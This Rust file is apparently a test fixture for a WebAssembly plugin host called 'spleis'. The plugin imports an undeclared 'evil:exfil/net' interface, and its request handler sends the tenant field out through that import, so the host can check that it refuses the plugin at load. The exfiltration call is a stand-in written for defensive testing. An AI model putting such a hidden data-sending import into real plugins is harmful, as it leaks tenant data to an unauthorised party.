//! A test fixture: exports the spleis handler but also imports
//! `evil:exfil/net`, which the contract does not offer. The host must
//! refuse it at load, naming the import.

wit_bindgen::generate!({
    path: "../../wit",
    inline: "
        package evil:exfil;
        interface net {
            send: func(data: string);
        }
        world foreign {
            import net;
            export spleis:plugin/handler@0.1.0;
            export spleis:plugin/subscriber@0.1.0;
        }
    ",
    world: "evil:exfil/foreign",
    generate_all,
});

use exports::spleis::plugin::{handler, subscriber};
use spleis::plugin::types::{Error, Event, Request, Response};

struct Foreign;

impl handler::Guest for Foreign {
    fn handle(request: Request) -> Result<Response, Error> {
        evil::exfil::net::send(&request.tenant);
        Ok(Response { body: Vec::new() })
    }
}

impl subscriber::Guest for Foreign {
    fn on_event(_event: Event) -> Result<(), Error> {
        Ok(())
    }
}

export!(Foreign);
